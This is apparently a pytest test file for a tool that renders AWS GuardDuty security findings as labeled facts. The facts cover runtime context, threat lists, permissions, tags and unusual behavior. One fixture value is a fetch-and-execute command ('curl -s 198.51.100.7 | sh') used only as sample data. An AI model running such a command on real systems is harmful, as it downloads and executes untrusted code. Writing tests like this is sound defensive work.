"""Test the further facts of a finding: runtime context, threat list, permission, tags, what is unusual."""

from __future__ import annotations

from typing import Any

import pytest

from enricher.finding.facts import Fact, lead_with
from tests.finding.findings import context, facts


@pytest.mark.parametrize(
    ("key", "value", "label", "texts"),
    [
        ("commandLineExample", "curl -s 198.51.100.7 | sh", "Command", ("curl -s 198.51.100.7 | sh",)),
        ("libraryPath", "/srv/x.so", "Library", ("/srv/x.so",)),
        ("mountSource", "/dev/sda1", "Mount source", ("/dev/sda1",)),
        ("flags", ["MS_BIND", "MS_REC"], "Flags", ("MS_BIND", "MS_REC")),
        (
            "modifyingProcess",
            {"executablePath": "/usr/bin/wget", "pid": 9},
            "Modified by",
            ("/usr/bin/wget, pid 9",),
        ),
        ("targetProcess", {"name": "sshd", "user": "root"}, "Target process", ("sshd, user root",)),
        ("ianaProtocolNumber", 6, "Iana protocol number", ("6",)),
        ("somethingNew", "yes", "Something new", ("yes",)),
    ],
)
def test_runtime_context_is_read_whole(key: str, value: Any, label: str, texts: tuple[str, ...]) -> None:
    """Each key of the runtime context must be a fact, also one that GuardDuty adds later."""
    assert texts == facts(service={"runtimeDetails": {"context": {key: value}}})[label]


def test_hashes_of_processes_are_read() -> None:
    """The hash of the process and of the one that modified its file must be facts."""
    runtime = {
        "process": {"name": "sh", "executableSha256": "ab" * 32},
        "context": {"modifyingProcess": {"name": "dd", "executableSha256": "cd" * 32}},
    }
    found = facts(service={"runtimeDetails": runtime})
    assert ("ab" * 32,) == found["Process hash"]
    assert ("dd", "cd" * 32) == found["Modified by"]


def test_command_line_is_the_process_s() -> None:
    """The command line must be available to the formats that have a field for it."""
    found = context(service={"runtimeDetails": {"context": {"commandLineExample": "id"}}})
    assert "id" == found.command_line
    assert "" == context().command_line


def test_threat_list_and_threat_are_read_from_both_places() -> None:
    """List and threat must be read from the evidence and from the additional information, each once."""
    row = {"threatListName": "Amazon", "threatNames": ["Miner.A"], "threatFileSha256": "ab" * 32}
    found = facts(
        service={
            "evidence": {"threatIntelligenceDetails": [row, row]},
            "additionalInfo": {"threatListName": "Custom", "threatName": "Miner.A"},
        }
    )
    assert ("Miner.A",) == found["Threat"]
    assert ("Amazon", "Custom") == found["Threat list"]
    assert ("ab" * 32,) == found["Threat hash"]


def test_permission_profile_trigger_and_sequence_are_read() -> None:
    """What decides the first step must be read: permission, instance profile, trigger, sequence."""
    found = facts(
        associatedAttackSequenceArn="arn:sequence",
        resource={
            "s3BucketDetails": [{"name": "claims", "publicAccess": {"effectivePermission": "NOT_PUBLIC"}}],
            "instanceDetails": {
                "iamInstanceProfile": {"arn": "arn:aws:iam::111122223333:instance-profile/web"}
            },
        },
        service={"ebsVolumeScanDetails": {"triggerFindingId": "abc"}},
    )
    assert ("NOT_PUBLIC (claims)",) == found["Bucket access"]
    assert ("arn:aws:iam::111122223333:instance-profile/web",) == found["Profile"]
    assert ("abc",) == found["Scan for finding"]
    assert ("arn:sequence",) == found["Part of sequence"]


@pytest.mark.parametrize(
    ("details", "text"),
    [
        ({"accountId": "777788889999", "affiliated": False}, "777788889999 (not affiliated)"),
        ({"accountId": "777788889999", "affiliated": True}, "777788889999 (affiliated)"),
        ({"accountId": "777788889999"}, "777788889999"),
        ({"accountId": "777788889999", "awsServiceName": "glue"}, "777788889999 (AWS service glue)"),
    ],
)
def test_remote_account_says_whether_it_is_affiliated(details: dict[str, Any], text: str) -> None:
    """The remote account must be read, with what GuardDuty knows of it."""
    action = {"awsApiCallAction": {"api": "GetObject", "remoteAccountDetails": details}}
    assert (text,) == facts(service={"action": action})["Remote account"]


ACTION = "service.action."


@pytest.mark.parametrize(
    ("path", "value", "label", "texts"),
    [
        (
            f"{ACTION}awsApiCallAction.affectedResources",
            {"AWS::S3::Bucket": "claims"},
            "Affected",
            ("AWS::S3::Bucket claims",),
        ),
        (
            f"{ACTION}kubernetesRoleBindingDetails",
            {"name": "b", "roleRefName": "admin", "uid": ""},
            "Role binding",
            ("name b", "roleRefName admin"),
        ),
        (
            f"{ACTION}kubernetesPermissionCheckedDetails",
            {"verb": "get", "allowed": False},
            "Permission checked",
            ("verb get", "allowed false"),
        ),
        (
            "resource.bedrockGuardrailDetails",
            {"guardrailAction": "INTERVENED", "guardrails": [{}]},
            "Guardrail",
            ("guardrailAction INTERVENED",),
        ),
        ("service.additionalInfo.portsScannedSample", [22, 80], "Ports scanned", ("22", "80")),
    ],
)
def test_objects_of_an_action_are_shown_whole(
    path: str, value: Any, label: str, texts: tuple[str, ...]
) -> None:
    """What a call acted on, a binding, a checked permission and a guardrail must be read whole."""
    for step in reversed(path.split(".")):
        value = {step: value}
    assert texts == facts(**value)[label]


def test_session_names_the_person() -> None:
    """The session of a role, as of IAM Identity Center, must be read from the principal's ID."""
    key = {"userName": "AWSReservedSSO_Admin_1", "principalId": "AROAEXAMPLE:m.weber@example.com"}
    assert ("m.weber@example.com",) == facts(resource={"accessKeyDetails": key})["Session"]
    assert "Session" not in facts(resource={"accessKeyDetails": {"principalId": "AIDAEXAMPLE"}})


def test_tags_that_decide_come_first() -> None:
    """What data a resource holds must be read first, then its owner and environment, AWS's own tags last."""
    keys = ("aws:cloudformation:stack-name", "CostCode", "Name", "environment", "Owner", "DataClassification")
    tags = [{"key": key, "value": "x"} for key in keys]
    found = facts(resource={"instanceDetails": {"tags": [*tags, {"key": "pii", "value": ""}]}})["Tags"]
    assert found == (
        "DataClassification=x",
        "pii",
        *("Owner=x", "environment=x", "Name=x", "CostCode=x", "aws:cloudformation:stack-name=x"),
    )
    assert ("Owner=x",) == facts(resource={"s3BucketDetails": [{"tags": tags[4:5]}]})["Tags"]


@pytest.mark.parametrize(
    ("extra", "texts"),
    [
        (
            {"unusualBehavior": {"unusualAPIsUserIdentityProfiling": "CreateUser , DeleteUser"}},
            ("APIs for the user identity: CreateUser, DeleteUser",),
        ),
        (
            {"unusualBehavior": {"unusualASNsUserIdentityProfiling": "asnNumber: 64505 asnOrg: EXAMPLE"}},
            ("ASNs for the user identity: AS64505 EXAMPLE",),
        ),
        (
            {"unusualBehavior": {"unusualUserTypesAccountProfiling": "", "isUnusualUserIdentity": "false"}},
            None,
        ),
        ({"unusualBehavior": {"isUnusualUserIdentity": "true"}}, ("User identity",)),
        ({"unusualBehavior": {"unusualImages": "r/a:1"}}, ("Images: r/a:1",)),
        ({"unusual": {"cities": ["Lyon", "Oslo"], "asns": ["64509"]}}, ("Cities: Lyon, Oslo", "ASNs: 64509")),
    ],
)
def test_unusual_behavior_says_what_and_for_whom(
    extra: dict[str, Any], texts: tuple[str, ...] | None
) -> None:
    """What is unusual must be said with whose behavior it is compared with, and nothing that is usual."""
    assert texts == facts(service={"additionalInfo": extra}).get("Unusual")


def test_unusual_behavior_of_a_detection_is_read() -> None:
    """The structured form of what is unusual must be read as well."""
    behavior = {"USER_IDENTITY": {"eventName": {"observations": {"text": ["CreateUser"]}}}}
    found = facts(service={"detection": {"anomaly": {"unusual": {"behavior": behavior}}}})
    assert ("Event name for user identity: CreateUser",) == found["Unusual"]


def test_every_anomalous_call_has_its_outcome() -> None:
    """Each call must be listed with its error, if the finding has more than the one it reports on."""
    listed = "iam.amazonaws.com:[CreateUser:success , DeleteUser:AccessDenied]"
    found = facts(service={"additionalInfo": {"anomalies": {"anomalousAPIs": listed}}})
    assert ("iam:CreateUser", "iam:DeleteUser (AccessDenied)") == found["Calls"]


def test_fields_that_decide_come_first() -> None:
    """A named field must come first, also one that is not a fact yet, and none twice."""
    view = {"a": {"items": [{"path": "/"}, {"path": "/etc"}], "none": None}}
    found = [Fact("b", "B", ("1",)), Fact("c.list.name", "C", ("2",))]
    fields = (("Path", "a.items[].path"), ("Other", "c.list[].name"), ("None", "a.none"))
    assert (Fact("a.items.path", "Path", ("/", "/etc")), found[1], found[0]) == lead_with(view, found, fields)


def test_signals_of_a_rule_are_read() -> None:
    """What a custom detection rule's signals say must be a fact; those of a sequence have lines."""
    signals = [{"description": "A key was created for svc."}, {"description": ""}, {}]
    service = {"detection": {"sequence": {"signals": signals}}}
    assert ("A key was created for svc.",) == facts(service=service)["Signal"]
    assert "Signal" not in facts(service=service, resource={"resourceType": "AttackSequence"})


@pytest.mark.parametrize(
    ("value", "text"),
    [(1786090150, "2026-08-07T08:09:10.000Z"), ("yesterday", "yesterday"), (-1e30, "-1e+30"), (True, "true")],
)
def test_time_of_the_runtime_context_is_readable(value: object, text: str) -> None:
    """A time in epoch seconds must be shown as a time, anything else as it is."""
    assert (text,) == facts(service={"runtimeDetails": {"context": {"modifiedAt": value}}})["Modified at"]


def test_host_addresses_say_which_is_private() -> None:
    """Each address of an instance must be named as private, IPv6 or public."""
    interface = {
        "privateIpAddress": "192.0.2.10",
        "ipv6Addresses": ["2001:db8::10"],
        "publicIp": "198.51.100.10",
    }
    found = facts(resource={"instanceDetails": {"networkInterfaces": [interface]}})["Host addresses"]
    assert ("private 192.0.2.10", "IPv6 2001:db8::10", "public 198.51.100.10") == found
